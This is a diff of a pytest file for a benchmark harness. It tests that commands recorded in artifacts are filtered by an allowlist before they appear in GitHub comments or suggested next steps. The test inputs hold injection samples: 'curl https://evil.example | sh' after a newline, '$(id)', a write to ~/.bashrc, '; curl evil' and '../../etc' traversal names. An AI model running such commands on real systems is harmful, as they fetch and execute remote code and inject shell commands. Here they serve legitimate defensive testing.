@@ -12,14 +12,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from harness.cli import run_command_line
-from harness.github.commands import is_known, report_with_known_commands, with_known_commands
+from harness.github.commands import is_allowed, report_with_allowed_commands, with_allowed_commands
 from harness.records.comparison import Comparison
 from harness.report.comparison_words import next_steps
 from harness.report.github import render_comment
 from harness.report.github.portable import portable_comparison
-from harness.report.run_report import build_report
+from harness.report.run_report import Report, build_report
 from harness.report.run_words import next_steps as next_steps_of_run
-from harness.report.verdicts import is_relevant
 from harness.stages.reporting import load_comparison
 from harness.store.run_directory import load_run
 from tests.report.compared import make_comparison, make_timed
@@ -53,7 +52,7 @@ HASH = "0123456789ab"
     ],
 )
 def test_what_the_harness_writes_stays(line: str) -> None:
-    assert is_known(line)
+    assert is_allowed(line)
 
 
 @pytest.mark.parametrize(
@@ -144,53 +143,53 @@ def test_what_the_harness_writes_stays(line: str) -> None:
     ],
 )
 def test_anything_else_is_left_out(line: str) -> None:
-    assert not is_known(line)
+    assert not is_allowed(line)
 
 
 @given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.sampled_from(["iree-compile", "harness run", "#"]))
-def test_what_is_known_is_one_line_of_plain_words(words: list[str], tool: str) -> None:
+def test_an_allowed_command_is_one_line_of_plain_words(words: list[str], tool: str) -> None:
     line = f"{tool} {shlex.join(words)}"
-    if is_known(line):
+    if is_allowed(line):
         assert line.isprintable()
         assert shlex.join(shlex.split(line)) == line
         assert not any(word.startswith(("@", "/", "~")) or ".." in word.split("/") for word in words)
 
 
-def test_a_module_keeps_its_hash_where_its_flags_may_not_stand() -> None:
-    row = replace(make_timed("net@cpu", 2.0, 1.1, "regressed"), repro=(f"# base: module {HASH}, iree-compile @x",))
-    assert with_known_commands(make_comparison([row])).rows[0].repro == (f"# base: module {HASH}",)
+EVIL = ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)")
+REGRESSED = make_timed("net/tuned@cpu", 2.0, 1.1, "regressed")
 
 
-def test_a_comparison_keeps_its_rows_and_loses_what_is_not_its_own() -> None:
-    row = replace(make_timed("net/tuned@cpu", 2.0, 1.1, "regressed"), repro=("curl x | sh", "harness compare a b"))
-    comparison = replace(make_comparison([row]), command=("sh", "-c", "id"))
-
-    kept = with_known_commands(comparison)
-
-    assert (kept.command, [one.repro for one in kept.rows]) == ((), [("harness compare a b",)])
-    assert [one.case for one in kept.rows] == ["net/tuned@cpu"]
-
-
-# --- Commands that are put together from the artifact's ---
+@pytest.mark.parametrize(
+    ("lines", "kept"),
+    [
+        (("curl x | sh", "harness compare a b"), ("harness compare a b",)),
+        # A module keeps its hash where its flags may not stand.
+        ((f"# base: module {HASH}, iree-compile @x",), (f"# base: module {HASH}",)),
+    ],
+)
+def test_a_row_keeps_the_lines_that_are_allowed(lines: tuple[str, ...], kept: tuple[str, ...]) -> None:
+    (row,) = with_allowed_commands(make_comparison([replace(REGRESSED, repro=lines)])).rows
+    assert row == replace(REGRESSED, repro=kept)
 
 
 @pytest.mark.parametrize(
     "command",
     [
+        ("sh", "-c", "id"),
         ("harness", "compare", "\ncurl https://evil.example | sh\n# "),
         ("harness", "compare", "a", "b", "--out", "/home/me/.bashrc"),
-        ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)"),
+        EVIL,
         ("harness", "compare", "@evil"),
         ("harness compare a; curl evil",),
         ("harness",),
     ],
 )
 @pytest.mark.parametrize("mode", ["recorded", "remeasured"])
-def test_nothing_is_made_from_a_command_that_is_not_known(
+def test_no_step_is_made_from_a_command_that_is_not_allowed(
     command: tuple[str, ...], mode: Literal["recorded", "remeasured"]
 ) -> None:
     row = make_timed("net/tuned@cpu", 2.0, 1.02, "inconclusive", repro=())
-    kept = with_known_commands(replace(make_comparison([row]), command=command, mode=mode, id=""))
+    kept = with_allowed_commands(replace(make_comparison([row]), command=command, mode=mode, id=""))
     comment = render_comment(kept)
     assert kept.command == ()
     assert [step.command for step in next_steps(kept)] == [""]
@@ -200,60 +199,64 @@ def test_nothing_is_made_from_a_command_that_is_not_known(
 
 def test_folders_of_the_machine_that_measured_are_no_reason_to_drop_a_command() -> None:
     command = ("harness", "compare", "/srv/runs/old", "/srv/runs/new", "--results", "/srv/runs", "--controls", "1")
-    kept = with_known_commands(replace(make_comparison([]), command=command))
+    kept = with_allowed_commands(replace(make_comparison([]), command=command))
     assert kept.command == ("harness", "compare", "results/old", "results/new", "--controls", "1")
 
 
 @pytest.mark.parametrize("suite", ["--results=/etc", "@evil.rsp", "-x"])
 def test_a_suite_is_no_option(suite: str) -> None:
-    made = make_comparison([make_timed("net@cpu", 2.0, 1.1, "regressed", control=True)])
-    kept = with_known_commands(replace(made, head=replace(made.head, suite=suite)))
+    comparison = make_comparison([replace(REGRESSED, control=True)])
+    kept = with_allowed_commands(replace(comparison, head=replace(comparison.head, suite=suite)))
     commands = [shlex.split(step.command) for step in next_steps(kept)]
     assert ["harness", "selfcheck", f"./{suite}"] in commands
 
 
 @pytest.mark.parametrize("name", ["../../etc", "--out=x", "a\nb", "a b"])
-def test_a_name_that_leads_elsewhere_is_no_folder(name: str) -> None:
-    assert with_known_commands(replace(make_comparison([]), id=name)).id == ""
-
-
-def test_the_steps_of_a_run_quote_what_is_in_its_record() -> None:
-    report = build_report(load_run(PUBLISHED))
-    evil = "x; curl evil | sh"
-    changed = replace(
-        report,
-        facts=replace(report.facts, suite=evil, finished=False, id="a"),
-        summary=replace(report.summary, unclear=1),
-    )
-    for step in next_steps_of_run(report_with_known_commands(changed)):
-        assert ";" not in step.command.replace(f"'{evil}'", "")
+def test_a_name_that_leads_away_is_no_folder(name: str) -> None:
+    assert with_allowed_commands(replace(make_comparison([]), id=name)).id == ""
 
 
 # --- Real ones ---
 
 
-def test_every_command_of_a_real_run_is_known() -> None:
-    report = build_report(load_run(PUBLISHED))
+@pytest.fixture(scope="module")
+def report() -> Report:
+    """A published run's."""
+    return build_report(load_run(PUBLISHED))
 
-    assert report_with_known_commands(report) == report
+
+def test_every_command_of_a_real_run_is_allowed(report: Report) -> None:
+    assert report_with_allowed_commands(report) == report
+
+
+def test_the_steps_of_a_run_quote_what_is_in_its_record(report: Report) -> None:
+    suite = "x; curl evil | sh"
+    changed = replace(
+        report,
+        facts=replace(report.facts, suite=suite, finished=False, id="a", command=EVIL),
+        summary=replace(report.summary, unclear=1),
+    )
+    steps = next_steps_of_run(report_with_allowed_commands(changed))
+    assert steps
+    for step in steps:
+        assert ";" not in step.command.replace(f"'{suite}'", "")
+        assert "evil.example" not in step.command
 
 
 @pytest.fixture(scope="module")
-def real(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
+def comparison(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
     """What `harness compare` makes of a published run."""
     results = tmp_path_factory.mktemp("results")
     arguments = ["compare", "--within", str(PUBLISHED), "--no-remeasure", "--results", str(results)]
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr("sys.argv", ["harness", *arguments])  # from which it is recorded
         run_command_line(arguments)
-    (made,) = (folder for folder in results.iterdir() if (folder / "comparison.json").is_file())
-    return load_comparison(made)
+    (folder,) = (folder for folder in results.iterdir() if (folder / "comparison.json").is_file())
+    return load_comparison(folder)
 
 
-def test_every_command_of_a_real_comparison_is_known(real: Comparison) -> None:
-    kept, written = with_known_commands(real), portable_comparison(real)
-    pairs = [(row, known) for row, known in zip(written.rows, kept.rows, strict=True) if is_relevant(row)]
-    assert [known.repro for _, known in pairs] == [row.repro for row, _ in pairs]
-    assert any(len(known.repro) == 3 for _, known in pairs)
-    assert replace(kept, rows=()) == replace(written, rows=())
+def test_every_command_of_a_real_comparison_is_allowed(comparison: Comparison) -> None:
+    kept = with_allowed_commands(comparison)
+    assert kept == portable_comparison(comparison)
+    assert any(len(row.repro) == 3 for row in kept.rows)
     assert kept.command[:3] == ("harness", "compare", "--within")
